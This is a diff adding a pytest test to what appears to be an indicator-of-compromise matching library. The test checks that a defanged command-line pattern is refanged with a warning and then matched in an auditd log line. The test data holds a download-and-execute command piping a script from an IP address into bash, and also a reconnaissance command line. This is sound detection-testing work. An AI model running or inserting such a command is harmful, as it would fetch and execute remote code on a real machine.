@@ -555,3 +555,22 @@ def test_a_command_line_in_rendered_event_xml_is_found() -> None:
     )
     line = '<Data Name="CommandLine">cmd.exe /c &quot;whoami &amp; net user&quot;</Data>'
     assert [m.text for m in matcher.scan_line(line)] == ["cmd.exe /c &quot;whoami &amp; net user&quot;"]
+
+
+def test_a_defanged_command_line_is_refanged_with_a_warning() -> None:
+    """Feeds defang the URLs inside a command line; the log holds the command as it ran."""
+    pattern = "[process:command_line = 'wget -qO- hxxp://172.233.228[.]93/patch|bash']"
+    compiled = compile_pattern(pattern)
+    assert [a.value for clause in compiled.clauses for a in clause] == ["wget -qO- http://172.233.228.93/patch|bash"]
+    assert compiled.warnings == (
+        (
+            "defanged value 'wget -qO- hxxp://172.233.228[.]93/patch|bash' refanged to "
+            "'wget -qO- http://172.233.228.93/patch|bash'"
+        ),
+    )
+    matcher = iocmatch.compile(iocmatch.load(bundle(indicator(pattern))))
+    auditd = 'type=EXECVE msg=audit(1733476442.1:7): proctitle="wget -qO- http://172.233.228.93/patch|bash"'
+    assert [m.kind for m in matcher.scan_line(auditd)] == ["command-line"]
+    # Brackets of the command's own stay as written.
+    [own] = compile_pattern("[process:command_line = 'cmd /c echo [x] > y[1].txt']").clauses
+    assert [a.value for a in own] == ["cmd /c echo [x] > y[1].txt"]
